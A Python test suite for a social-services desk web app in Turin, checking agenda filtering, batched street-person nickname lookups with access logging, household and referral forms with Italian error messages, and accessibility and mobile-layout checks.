async def test_booking_moving_or_cancelling_from_one_operators_agenda_keeps_her_agenda_shown(desk: Desk) -> None:
    """A reviewer's finding: booking from one operator's agenda (`?operator=luca`, asked of intake with her party)
    went back to the day's agenda of every operator. The page it goes back to, or shows again with a refusal, is
    hers still: intake asked for her code with her cooperative, her user name kept in the filter's field; so after a
    move or a cancellation."""
    booked = agenda_services(desk.services)
    day = (clock.today() + timedelta(days=1)).isoformat()
    lucas = marias_appointment(day) | {"operator": "luca", "operator_partner": "coop-aurora", "booked_by": "desk.maria"}
    desk.services.answers |= {
        ("intake", "GET", "/appointments"): [lucas],
        ("intake", "POST", "/appointments/apt-1/move"): {},
        ("intake", "POST", "/appointments/apt-1/cancel"): {},
    }
    for op in (LUCA, MARIA):
        await desk.as_operator(op)
    hers = {"day": day, "operator": "luca", "operator_partner": "coop-aurora"}

    def asked() -> list[dict[str, str]]:
        reads = [r for r in desk.services.requests if (r.method, r.url.path) == ("GET", "/appointments")]
        return [dict(r.url.params) for r in reads]

    async def shown(path: str, data: dict[str, str], status: int = 303) -> httpx.Response:
        """The page a post answers with (`status`): the one it redirects to, or the one it shows again."""
        desk.services.requests.clear()
        answer = await desk.client.post(path, data=data)
        assert answer.status_code == status, answer.text
        if answer.status_code == 303:
            answer = await desk.client.get(answer.headers["location"])
        assert answer.status_code in (200, 422), answer.text
        assert asked() == [hers], asked()
        assert re.search(r'id="agenda_operator" name="operator" [^>]*value="luca"', answer.text), answer.text
        return answer

    page = await desk.client.get(f"/agenda?day={day}&operator=luca&lang=it")
    assert page.status_code == 200, page.text
    booking = hidden_fields(page.text, "/agenda")
    form = {"time": "10:00", "minutes": "30", "party": "p-1", "purpose": "plan_review", "operator": "luca"}
    refused = await shown("/agenda", booking | form | {"time": "25:00"}, 422)
    assert 'id="time-error"' in refused.text and booked == [], refused.text
    page = await shown("/agenda", booking | form)
    assert [(b["operator"], b["operator_partner"]) for b in booked] == [("luca", "coop-aurora")], booked
    move = hidden_fields(page.text, "/agenda/apt-1/move") | {"new_day": day, "new_time": "11:00"}
    await shown("/agenda/apt-1/move", move)
    cancel = hidden_fields(page.text, "/agenda/apt-1/cancel") | {"reason": "person_request"}
    await shown("/agenda/apt-1/cancel", cancel)


def street_nicknames(known: dict[str, str | None]) -> Handler:
    """Intake's `POST /street-persons/nicknames` over `known` ({street id: nickname}): those of the ids asked it knows
    (the others, refused or absent, left out), in the order asked."""

    def answer(request: httpx.Request) -> httpx.Response:
        asked = json.loads(request.content)["street_ids"]
        found = [{"street_id": s, "nickname": known[s], "nickname_erased_on": None} for s in asked if s in known]
        return httpx.Response(200, json=found)

    return answer


async def test_the_agenda_and_the_to_do_list_read_the_street_persons_nicknames_in_one_call(desk: Desk) -> None:
    """The agenda and the to-do list asked intake for each street person's nickname alone (`GET /street-persons/{id}`,
    one call per person). Now one call for all of a page's (`POST /street-persons/nicknames`), and the access log
    keeps what it kept: each street person shown, and one intake does not show (refused, or absent) denied."""
    tomorrow = clock.today() + timedelta(days=1)
    starts, ends = f"{tomorrow.isoformat()}T09:00:00+00:00", f"{tomorrow.isoformat()}T09:30:00+00:00"
    streets = ("sp-rosso", "sp-none", "sp-refused")
    apts = [{"appointment_id": f"apt-{s}", "agenda": "desk", "operator": "giulia", "unit_id": None, "person_id": None,
             "street_id": s, "purpose": "needs_assessment", "starts_at": starts, "ends_at": ends, "status": "booked",
             "outcome": None, "booked_by": "desk.giulia", "operator_partner": None} for s in streets]  # fmt: skip
    reminders = [{"kind": "appointment_reminder_due", "appointment_id": a["appointment_id"], "operator": "giulia",
                  "operator_partner": None, "person_id": None, "street_id": a["street_id"], "case_id": None,
                  "purpose": "needs_assessment", "starts_at": starts, "since": clock.today().isoformat(),
                  "waiting_days": 0} for a in apts]  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/appointments"): apts,
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "POST", "/street-persons/nicknames"): street_nicknames({"sp-rosso": "Il Rosso", "sp-none": None}),
        ("housing", "GET", "/reminders"): [],
        ("payments", "GET", "/reminders"): [],
        ("intake", "GET", "/appointments/reminders/open"): reminders,
    }  # fmt: skip
    await desk.as_operator(MARIA)
    for page in (f"/agenda?day={tomorrow.isoformat()}&lang=it", "/todo?lang=it"):
        desk.services.calls.clear()
        text = text_of((await desk.client.get(page)).text)
        assert "persona incontrata in strada: Il Rosso" in text, text
        assert "persona incontrata in strada: nessun soprannome registrato" in text, text
        asked = [c for c in desk.services.calls if "street-persons" in c[2]]
        assert asked == [("intake", "POST", "/street-persons/nicknames")], desk.services.calls
    async with desk.pool.acquire() as conn:
        logged = {s: await store.access_entries(conn, "torino", s) for s in streets}
    kept = {s: sorted((e["action"], e["outcome"]) for e in entries) for s, entries in logged.items()}
    assert kept == {
        "sp-rosso": [("agenda", "shown"), ("to-do", "shown")],
        "sp-none": [("agenda", "shown"), ("to-do", "shown")],
        "sp-refused": [("agenda", "denied"), ("to-do", "denied")],
    }, kept


async def test_the_agenda_and_the_to_do_list_say_a_person_without_a_name_and_a_street_persons_nickname(
    desk: Desk,
) -> None:
    """The to-do list read "Appuntamento del 8 dic 2026, 09:00 con p-street-torino-6-f970ce": a person taken in charge
    from the street, without a recorded name, said by her id. She is said as the cartella says her ("nome non
    registrato", the id small beside it), a street person by the nickname the units gave (or "nessun soprannome
    registrato"), the reads of the nicknames in the access log."""
    tomorrow = clock.today() + timedelta(days=1)
    starts, ends = f"{tomorrow.isoformat()}T09:00:00+00:00", f"{tomorrow.isoformat()}T09:30:00+00:00"

    def appointment(aid: str, person: str | None, street: str | None) -> dict[str, Any]:
        return {"appointment_id": aid, "agenda": "desk", "operator": "giulia", "unit_id": None, "person_id": person,
                "street_id": street, "purpose": "needs_assessment", "starts_at": starts, "ends_at": ends,
                "status": "booked", "outcome": None, "booked_by": "desk.giulia"}  # fmt: skip

    def reminder(aid: str, person: str | None, street: str | None) -> dict[str, Any]:
        return {"kind": "appointment_reminder_due", "appointment_id": aid, "operator": "giulia", "person_id": person,
                "street_id": street, "case_id": None, "purpose": "needs_assessment", "starts_at": starts,
                "since": clock.today().isoformat(), "waiting_days": 0}  # fmt: skip

    unnamed = {"person_id": "p-street-torino-6", "birth_date": "1980-01-01", "sex": "male", "nationality": "MA",
               "identity": None}  # fmt: skip
    desk.services.answers |= {
        ("intake", "POST", "/persons/search"): [unnamed],
        ("intake", "GET", "/appointments"): [appointment("apt-1", "p-street-torino-6", None),
                                             appointment("apt-2", None, "sp-rosso"),
                                             appointment("apt-3", None, "sp-none")],
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "POST", "/street-persons/nicknames"): street_nicknames({"sp-rosso": "Il Rosso", "sp-none": None}),
        ("housing", "GET", "/reminders"): [],
        ("intake", "GET", "/appointments/reminders/open"): [reminder("apt-1", "p-street-torino-6", None),
                                                            reminder("apt-2", None, "sp-rosso")],
    }  # fmt: skip
    await desk.as_operator(MARIA)
    agenda = (await desk.client.get(f"/agenda?day={tomorrow.isoformat()}&lang=it")).text
    assert (
        '<a href="/persons/p-street-torino-6?purpose=case_work">nome non registrato'
        ' <small class="id">p-street-torino-6</small></a>' in agenda
    ), agenda
    text = text_of(agenda)
    assert "persona incontrata in strada: Il Rosso" in text, text
    assert "persona incontrata in strada: nessun soprannome registrato" in text, text
    todo = text_of((await desk.client.get("/todo?lang=it")).text).replace(" :", ":")
    assert "con nome non registrato p-street-torino-6: Valutazione dei bisogni" in todo, todo
    assert "con persona incontrata in strada: Il Rosso: Valutazione dei bisogni" in todo, todo
    async with desk.pool.acquire() as conn:
        entries = await store.access_entries(conn, "torino", "sp-rosso")
    assert {(e["action"], e["outcome"]) for e in entries} == {("agenda", "shown"), ("to-do", "shown")}, entries


NADIA = Operator("nadia", "Nadia Borgo", OperatorRole.PARTNER, "torino", "coop-borgo", code="nadia")
HOUSEHOLD = "h-5f1c0a9e7b2d"


async def test_a_households_members_change_at_the_cartella_each_refusal_at_its_field(desk: Desk) -> None:
    """A baby born, a relative joining, a member leaving: the worker asked someone to call intake's API. The cartella
    has a form for each (the city's staff, the cooperative of the household's open case; not another cooperative);
    intake's refusals at their fields in Italian, all at once, the form shown again open as sent; a confirmation."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    members: list[tuple[str, dict[str, Any]]] = []
    persons: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/households/members")] = keeping(members)
    desk.services.answers[("intake", "POST", "/persons")] = keeping(persons)
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    for form in ("member-left", "member-joined", "member-new"):
        assert f'action="/persons/p-1/{form}"' in page.text, form
    assert "Cambia i componenti: Nucleo di Amina Okafor" in text_of(page.text)
    # who may leave: not the reference person (intake refuses it: the household would be left without one), said
    leavers = re.search(r'<select id="leave_person-[^"]+" name="leave_person".*?</select>', page.text, re.S)
    assert leavers and 'value="p-1"' not in leavers[0], leavers  # Amina Okafor, the reference person
    assert "La persona di riferimento non può uscire dal nucleo: prima nomini un altro componente persona" in text_of(
        page.text
    )
    born = {"csrf": "csrf-maria", "form_key": "b" * 22, "new_household": HOUSEHOLD, "mn_given_name": "Grace",
            "mn_family_name": "Okafor", "mn_birth_date": typed_day(today), "mn_sex": "female",
            "mn_nationality": "Nigeria", "new_reason": "birth", "new_joined_on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/member-new", data=born, follow_redirects=True)
    assert "Nuovo componente registrato ed entrato nel nucleo." in text_of(r.text), text_of(r.text)
    [(_, grace)] = persons
    assert members[-1][1] == {"household_id": HOUSEHOLD, "person_id": grace["person_id"], "change": "joined",
                              "reason": "birth", "on": today}  # fmt: skip
    problem = {"status": 409, "field": "person_id", "reason": "is not a member of the household",
               "errors": [{"field": "person_id", "reason": "is not a member of the household"},
                          {"field": "on", "reason": "is in the future"}]}  # fmt: skip
    desk.services.answers[("intake", "POST", "/households/members")] = httpx.Response(409, json=problem)
    leaving = {"csrf": "csrf-maria", "form_key": "l" * 22, "leave_household": HOUSEHOLD, "leave_person": "p-1",
               "leave_reason": "moved", "left_on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/member-left", data=leaving)
    assert r.status_code == 422, r.text
    assert f'<span class="field-error" id="leave_person-{HOUSEHOLD}-error">non fa parte del nucleo' in r.text, r.text
    assert f'id="left_on-{HOUSEHOLD}-error">' in r.text and "<details open>" in r.text, r.text
    assert '<option value="moved" selected>' in r.text  # as sent
    # from an outside review: the reference person leaving her own household, refused by intake, said at her field
    reason = "is the household's reference person and cannot leave it: the household would be left without one"
    desk.services.answers[("intake", "POST", "/households/members")] = httpx.Response(
        409, json={"status": 409, "field": "person_id", "reason": reason}
    )
    r = await desk.client.post("/persons/p-1/member-left", data=leaving | {"form_key": "r" * 22})
    assert f'id="leave_person-{HOUSEHOLD}-error">è la persona di riferimento del nucleo' in r.text, r.text
    # a newcomer registered, her joining refused: kept registered on the form shown again, not registered twice
    r = await desk.client.post("/persons/p-1/member-new", data=born | {"form_key": "n" * 22})
    assert r.status_code == 422 and 'name="mn_person_id"' in r.text and "non viene inviata di nuovo" in r.text, r.text
    kept = re.search(r'name="mn_person_id" value="([^"]+)"', r.text)
    assert kept and len(persons) == 2, r.text
    # what cannot change once she is registered is shown read-only, her sex too (a change there was ignored)
    assert f'<select id="mn_sex-{HOUSEHOLD}" disabled' in r.text, r.text
    assert '<input type="hidden" name="mn_sex" value="female">' in r.text, r.text
    await desk.client.post("/persons/p-1/member-new", data=born | {"form_key": "n" * 22, "mn_person_id": kept[1]})
    assert len(persons) == 2
    # a newcomer with the name and birth date of a person on file: said, linked, registered only if another person
    desk.services.answers[("intake", "POST", "/persons/search")] = [
        {"person_id": "p-grace", "birth_date": today, "identity": {"given_name": "Grace", "family_name": "Okafor"}}
    ]
    r = await desk.client.post("/persons/p-1/member-new", data=born | {"form_key": "s" * 22})
    assert f'id="mn_given_name-{HOUSEHOLD}-error">una persona con questo nome e questa data' in r.text, r.text
    assert 'href="/persons/p-grace?purpose=case_work"' in r.text and f'id="mn_not_on_file-{HOUSEHOLD}"' in r.text
    assert len(persons) == 2
    # a name typed for a person on file that names nobody: said at the field with what else is missing, not sent
    desk.services.answers[("intake", "POST", "/persons/search")] = []
    joining = {"csrf": "csrf-maria", "form_key": "j" * 22, "join_household": HOUSEHOLD, "join_person": "Nessuno Qui",
               "join_reason": "", "joined_on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/member-joined", data=joining)
    assert r.status_code == 422 and f'id="join_person-{HOUSEHOLD}-error">' in r.text, r.text
    assert f'id="join_reason-{HOUSEHOLD}-error">campo obbligatorio' in r.text, r.text
    await desk.as_operator(LUCA)  # the cooperative of the household's open case
    assert 'action="/persons/p-1/member-left"' in (await desk.client.get("/persons/p-1")).text
    # a baby registered without her sharing consent would be invisible to the cooperative: asked first
    r = await desk.client.post("/persons/p-1/member-new", data=born | {"csrf": "csrf-luca", "form_key": "c" * 22})
    assert r.status_code == 422 and f'id="mn_consent_partner_sharing-{HOUSEHOLD}-error">' in r.text, r.text
    assert len(persons) == 2  # nobody registered
    await desk.as_operator(NADIA)  # another cooperative: intake would refuse her, the desk offers nothing
    assert 'action="/persons/p-1/member-' not in (await desk.client.get("/persons/p-1")).text


async def test_the_cooperative_that_formed_a_household_without_a_case_yet_is_offered_its_forms(
    desk: Desk, browser: Any
) -> None:
    """Intake lets the cooperative that formed a household change its members while no other cooperative has an open
    case on it (`access.may_act_on_household`); the desk offered the forms only to the city's staff and the
    cooperative of the household's open case, so a baby born in a family the cooperative registered, no case opened
    yet, could not be recorded. Intake's cartella says it of each household for the reader (`may_change_members`):
    the desk offers exactly that (the page passing axe-core), and nothing to a cooperative intake would refuse."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = a_record(today, today)
    [served] = record["households"]
    formed = {"household_id": "h-0b7e5d2c9a41", "reference_person_id": "p-2",
              "members": [{"person_id": "p-2", "name": "Chidi Okafor", "birth_date": "1983-07-01", "sex": "male",
                           "joined_on": today, "left_on": None, "reason": None},
                          {"person_id": "p-1", "name": "Amina Okafor", "birth_date": "1985-03-14", "sex": "female",
                           "joined_on": today, "left_on": None, "reason": "cohabitation"}]}  # fmt: skip
    # Borgo formed the second household, no case on it: intake lets Borgo act on it, not on Aurora's household
    record["households"] = [served | {"may_change_members": False}, formed | {"may_change_members": True}]
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    await desk.as_operator(NADIA)
    page = await desk.client.get("/persons/p-1?lang=it")
    assert page.status_code == 200, page.text
    assert 'name="leave_household" value="h-0b7e5d2c9a41"' in page.text, page.text
    assert 'name="leave_household" value="h-5f1c0a9e7b2d"' not in page.text, page.text
    assert "Cambia i componenti: Nucleo di Chidi Okafor" in text_of(page.text)
    assert "Cambia i componenti: Nucleo di Amina Okafor" not in text_of(page.text)
    assert await axe_problems(desk, browser, {"cartella-formed": page.text}) == []
    # another cooperative (intake would refuse it either household): nothing offered, though it serves one of them
    record["households"] = [served | {"may_change_members": False}, formed | {"may_change_members": False}]
    await desk.as_operator(LUCA)
    assert 'action="/persons/p-1/member-' not in (await desk.client.get("/persons/p-1")).text


async def test_two_households_named_after_the_same_person_are_two_boxes_a_screen_reader_tells_apart(
    desk: Desk, browser: Any
) -> None:
    """Noticed while testing the household forms: a person who is the reference person of two households (registered
    twice, or a second household formed with her) had two "Nucleo di Amina Okafor" tables, each in a scrollable box
    named by its caption: two regions of one name (axe `landmark-unique`). Each box is named by its caption and the
    household's id now."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = a_record(today, today)
    [first] = record["households"]
    record["households"] = [first, first | {"household_id": "h-0b7e5d2c9a41"}]
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1?lang=it")
    assert page.status_code == 200, page.text
    assert await axe_problems(desk, browser, {"cartella-two-households": page.text}) == []


def a_household_of_two(today: str) -> dict[str, Any]:
    """`a_record`'s household with a second member, Chidi Okafor, who joined it on `today`."""
    record = a_record(today, today)
    [household] = record["households"]
    chidi = {"person_id": "p-2", "name": "Chidi Okafor", "birth_date": "1983-07-01", "sex": "male",
             "joined_on": today, "left_on": None, "reason": "cohabitation"}  # fmt: skip
    household["members"] = [*household["members"], chidi]
    return record


async def test_another_member_is_named_the_households_reference_person_at_the_cartella(desk: Desk) -> None:
    """A household whose reference person moved out, separated or died was stuck: she could not leave, and no one
    could be named in her place. The household's page has a form for it (who may change its members may): only its
    members now other than the reference person offered; why and since when; intake's refusal said at its field in
    Italian, the form shown again open as sent; a confirmation. The leave form's note points to it."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = a_household_of_two(today)
    named: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/households/reference-person")] = keeping(named)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    assert 'action="/persons/p-1/reference-person"' in page, page
    offered = re.search(r'<select id="ref_person-[^"]+" name="ref_person".*?</select>', page, re.S)
    assert offered and 'value="p-2"' in offered[0] and 'value="p-1"' not in offered[0], offered
    assert "Chidi Okafor" in offered[0]
    text = text_of(page)
    assert "Nomina un altro componente persona di riferimento" in text, text
    # the leave form says what to do first, and links to the form
    assert "prima nomini un altro componente persona di riferimento" in text, text
    assert f'href="#ref_person-{HOUSEHOLD}"' in page
    sent = {"csrf": "csrf-maria", "form_key": "f" * 22, "ref_household": HOUSEHOLD, "ref_person": "p-2",
            "ref_reason": "moved", "named_on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/reference-person", data=sent, follow_redirects=True)
    assert "Persona di riferimento del nucleo cambiata." in text_of(r.text), text_of(r.text)
    assert [body for _, body in named] == [
        {"household_id": HOUSEHOLD, "person_id": "p-2", "reason": "moved", "on": today}
    ], named
    # the timeline says who was named in whose place, and why
    record = a_household_of_two(today)
    record["households"][0]["reference_person_id"] = "p-2"
    record["timeline"] = [{"on": today, "kind": "reference_person_named", "person_id": "p-2",
                           "previous_person_id": "p-1", "household_id": HOUSEHOLD, "reason": "moved"}]  # fmt: skip
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    text = text_of((await desk.client.get("/persons/p-1")).text)
    assert (
        "Chidi Okafor è la persona di riferimento del nucleo, al posto di Amina Okafor:"
        " La persona di riferimento si trasferisce altrove" in text
    ), text
    assert "Nucleo di Chidi Okafor" in text, text
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = a_household_of_two(today)
    # intake's refusal at its field, in Italian; the form open, as sent
    problem = {"status": 409, "field": "person_id", "reason": "is already the household's reference person"}
    desk.services.answers[("intake", "POST", "/households/reference-person")] = httpx.Response(409, json=problem)
    r = await desk.client.post("/persons/p-1/reference-person", data=sent | {"form_key": "g" * 22})
    assert r.status_code == 422, r.text
    assert f'id="ref_person-{HOUSEHOLD}-error">è già la persona di riferimento del nucleo' in r.text, r.text
    assert "<details open>" in r.text and '<option value="moved" selected>' in r.text, r.text
    problem = {
        "status": 422,
        "field": "on",
        "reason": f"is before the household's reference person now was named ({today})",
    }
    desk.services.answers[("intake", "POST", "/households/reference-person")] = httpx.Response(422, json=problem)
    r = await desk.client.post("/persons/p-1/reference-person", data=sent | {"form_key": "h" * 22})
    assert f'id="named_on-{HOUSEHOLD}-error">è precedente alla nomina dell' in r.text, r.text
    # nothing chosen: said at the fields, nothing sent
    calls = len(desk.services.calls)
    r = await desk.client.post(
        "/persons/p-1/reference-person", data=sent | {"form_key": "k" * 22, "ref_person": "", "ref_reason": ""}
    )
    assert r.status_code == 422 and f'id="ref_person-{HOUSEHOLD}-error">campo obbligatorio' in r.text, r.text
    assert not [c for c in desk.services.calls[calls:] if c[2] == "/households/reference-person"]
    # a household of one: nobody to name, said, no form
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = a_record(today, today)
    page = (await desk.client.get("/persons/p-1")).text
    assert 'action="/persons/p-1/reference-person"' not in page
    assert "Nessun altro componente può essere nominato" in text_of(page), text_of(page)
    await desk.as_operator(NADIA)  # another cooperative: intake would refuse her, the desk offers nothing
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = a_household_of_two(today)
    assert 'action="/persons/p-1/reference-person"' not in (await desk.client.get("/persons/p-1")).text


async def test_a_referral_is_recorded_with_its_source_and_its_outcome_at_the_cartella(desk: Desk) -> None:
    """Where a household came from (the social district, a reception project it leaves, …) and what came of it:
    intake's referrals, shown on the cartella and recorded there; a refusal at its field in Italian."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = a_record(today, today) | {"referrals": [
        {"referral_id": "ref-1", "household_id": HOUSEHOLD, "source": "social_district", "received_on": today,
         "outcome": None, "case_id": None}]}  # fmt: skip
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    referrals: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/referrals")] = keeping(referrals)
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    assert f"Ricevuta il {i18n.day(clock.today(), 'it')} da: Distretto sociale — esito non ancora registrato" in text
    sent = {"csrf": "csrf-maria", "form_key": "r" * 22, "referral_household": HOUSEHOLD,
            "referral_source": "reception_exit", "referrer": "", "received_on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/referrals", data=sent, follow_redirects=True)
    assert "Segnalazione registrata." in text_of(r.text), text_of(r.text)
    assert referrals[0][1]["source"] == "reception_exit" and referrals[0][0] == f"desk:{'r' * 22}:referral"
    problem = {"status": 422, "field": "case_id", "reason": "is not a case of the referral's household"}
    desk.services.answers[("intake", "POST", "/referrals/ref-1/outcome")] = httpx.Response(422, json=problem)
    outcome = {"csrf": "csrf-maria", "form_key": "o" * 22, "referral_id": "ref-1",
               "referral_outcome": "taken_in_charge", "outcome_case": "c-8e2b7d41a9f0"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/referral-outcome", data=outcome)
    assert r.status_code == 422 and 'id="outcome_case-ref-1-error">' in r.text, r.text
    assert '<option value="taken_in_charge" selected>' in r.text
    outcomes: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/referrals/ref-1/outcome")] = keeping(outcomes)
    r = await desk.client.post("/persons/p-1/referral-outcome", data=outcome, follow_redirects=True)
    assert "Esito della segnalazione registrato." in text_of(r.text)
    assert outcomes[0][1] == {"outcome": "taken_in_charge", "case_id": "c-8e2b7d41a9f0"}
    # intake shows a cooperative only the referrals naming its case: its operator gives the outcome and the case
    await desk.as_operator(LUCA)
    r = await desk.client.post("/persons/p-1/referrals", data=sent | {"csrf": "csrf-luca", "form_key": "q" * 22})
    assert r.status_code == 422 and 'id="new_referral_case-error">' in r.text, r.text
    assert "indichi l'esito e la pratica" in text_of(r.text) and len(referrals) == 1, text_of(r.text)


async def test_the_individual_plan_is_called_progetto_on_every_italian_text(desk: Desk) -> None:
    """The section and its form said "Progetto individuale", the confirmation "Piano individuale registrato.": one
    term for the plan, in every Italian text of the desk."""
    from importlib import resources

    from babel.messages.pofile import read_po

    with resources.files("lgnet_desk").joinpath("locale/it/LC_MESSAGES/desk.po").open("rb") as f:
        catalog = read_po(f, locale="it")
    plans = {str(m.id): str(m.string) for m in catalog if m.id and "plan" in str(m.id).lower()}
    assert plans and not [s for s in plans.values() if re.search(r"\bpian[oi]\b", s, re.I)], plans
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers[("intake", "POST", "/cases/plans")] = keeping([])
    await desk.as_operator(MARIA)
    plan = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "objectives": "employment", "agreed_on": today}
    r = await desk.client.post("/persons/p-1/plans?lang=it", data=plan, follow_redirects=True)
    assert "Progetto individuale registrato." in text_of(r.text), text_of(r.text)


async def axe_problems(desk: Desk, browser: Any, shown: dict[str, str]) -> list[tuple[str, str, str]]:
    """Each page of `shown` ({name: the desk's HTML}) as Chromium draws it (its stylesheet and the desk's other
    addresses served by the desk in process), checked with axe-core as the journey's pages are
    (test_desk_e2e.shot): its moderate, serious or critical violations (a moderate one, `landmark-unique`, went
    unseen on every cartella while only serious and critical ones were looked at)."""
    from axe_playwright_python.async_playwright import Axe  # type: ignore[import-untyped]  # axe-playwright-python ships no types

    bad: list[tuple[str, str, str]] = []
    async with drawn(desk, browser, shown) as page:
        for name in shown:
            await page.goto(f"http://desk.test/__shown/{name}")
            results = await Axe().run(page)
            bad += [
                (name, v["id"], v["help"])
                for v in results.response["violations"]
                if v["impact"] in ("moderate", "serious", "critical")
            ]
    return bad


@contextlib.asynccontextmanager
async def drawn(desk: Desk, browser: Any, shown: dict[str, str], **context: Any) -> AsyncIterator[Any]:
    """A Chromium page (its context made with `context`: a viewport) where `/__shown/<name>` is the HTML of `shown`
    and every other address of the desk is served by the desk in process (its stylesheet, its scripts)."""

    async def served(route: Any) -> None:
        path = route.request.url.replace("http://desk.test", "")
        if path.startswith("/__shown/"):
            html = shown[path.removeprefix("/__shown/")]
            await route.fulfill(status=200, headers={"content-type": "text/html; charset=utf-8"}, body=html)
            return
        r = await desk.client.get(path)
        await route.fulfill(status=r.status_code, headers=dict(r.headers), body=r.content)

    ctx = await browser.new_context(**context)
    try:
        page = await ctx.new_page()
        await page.route("http://desk.test/**", served)
        yield page
    finally:
        await ctx.close()


def contrast(a: str, b: str) -> float:
    """WCAG's contrast ratio of two CSS colours as Chromium computes them (`rgb(r, g, b)`)."""

    def luminance(colour: str) -> float:
        channels = [int(c) / 255 for c in re.findall(r"\d+", colour)[:3]]
        r, g, b = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * r + 0.7152 * g + 0.0722 * b

    dark, light = sorted((luminance(a), luminance(b)))
    return (light + 0.05) / (dark + 0.05)


# The focus ring of the element a selector names, as Chromium draws it: [style, colour, width, offset].
RING = """s => (c => [c.outlineStyle, c.outlineColor, parseFloat(c.outlineWidth), parseFloat(c.outlineOffset)])
    (getComputedStyle(document.querySelector(s)))"""


async def test_the_focus_ring_stands_out_and_leaves_the_label_whole(desk: Desk, browser: Any) -> None:
    """The ring (#f0a500) was 2.1:1 on white, below WCAG 1.4.11's 3:1, and on the search page it cut through the
    field's label. Each focused field, link and button has a ring of 3:1 at least against what surrounds it (the
    page's white, the header's blue, the skip link over the header), clear of the label above the field."""
    await desk.as_operator(MARIA)
    shown = {"search": (await desk.client.get("/?lang=it")).text}
    async with drawn(desk, browser, shown, viewport={"width": 1024, "height": 800}) as page:
        await page.goto("http://desk.test/__shown/search")
        header = await page.evaluate("getComputedStyle(document.querySelector('header')).backgroundColor")
        for selector, behind in [("#fiscal_code", "rgb(255, 255, 255)"), ("main button", "rgb(255, 255, 255)"),
                                 ("header nav a", header), ("header button", header), (".skip", header)]:  # fmt: skip
            await page.focus(selector)
            ring = await page.evaluate(RING, selector)
            assert ring[0] == "solid" and ring[2] >= 2 and contrast(ring[1], behind) >= 3, (selector, ring, behind)
        await page.focus("#fiscal_code")
        label, field = await page.evaluate(
            "[document.querySelector('label[for=fiscal_code]'), document.querySelector('#fiscal_code')]"
            ".map(e => e.getBoundingClientRect().toJSON())"
        )
        _, _, width, offset = ring = await page.evaluate(RING, "#fiscal_code")
        assert label["bottom"] <= field["top"] - width - offset, (label, field, ring)


async def test_the_language_links_of_a_refused_form_switch_the_language(desk: Desk) -> None:
    """A form shown again with its error is at the form's POST address (`/persons/p-1/contributions`): its "English"
    link, that address with `?lang=en`, answered 303 to the cartella without setting the language, which stayed
    Italian. The switch works from any page."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    sent = {"csrf": "csrf-maria", "case_id": "", "kind": "deposit", "amount": "300"}
    refused = await desk.client.post("/persons/p-1/contributions?lang=it", data=sent)
    assert refused.status_code == 422 and "scelga la pratica" in text_of(refused.text)
    link = re.search(r'<a href="([^"]+)" lang="en">English</a>', refused.text)
    assert link is not None, refused.text
    english = await desk.client.get(markup.unescape(link.group(1)), follow_redirects=True)
    assert english.status_code == 200 and str(english.url.path) == "/persons/p-1", english.url
    assert '<html lang="en">' in english.text and "Contributions" in text_of(english.text)
    again = await desk.client.get("/persons/p-1")  # remembered
    assert '<html lang="en">' in again.text


async def test_the_cartella_and_the_other_pages_fit_a_phones_width(desk: Desk, browser: Any) -> None:
    """At 375 px the cartella was 556 px wide: the "Scelga la pratica" lists (a case named by its area, partner and
    opening day) pushed their forms past the screen's edge, and the whole page scrolled sideways. It fits, and so do
    the search, the registration, the agenda, the to-do list and an outing (a wide table scrolls in its own box)."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    case = {"csrf": "csrf-maria", "action_area": "", "channel": "", "partner": "", "opened_on": ""}
    shown = {
        "cartella-empty-refused": (await desk.client.post("/persons/p-1/cases?lang=it", data=case)).text,
        "search": (await desk.client.get("/?lang=it")).text,
        "register": (await desk.client.get("/persons/new")).text,
    } | await the_reviewed_pages(desk)
    async with drawn(desk, browser, shown, viewport={"width": 375, "height": 800}) as page:
        for name in shown:
            await page.goto(f"http://desk.test/__shown/{name}")
            width = await page.evaluate("document.documentElement.scrollWidth")
            wider = await page.evaluate(
                "[...document.querySelectorAll('body *')].filter(e => !e.closest('.wide *'))"
                ".filter(e => e.getBoundingClientRect().right > 375.5)"
                ".map(e => e.tagName + '#' + e.id + ' ' + Math.round(e.getBoundingClientRect().right))"
            )
            assert width <= 375, (name, width, wider[:10])


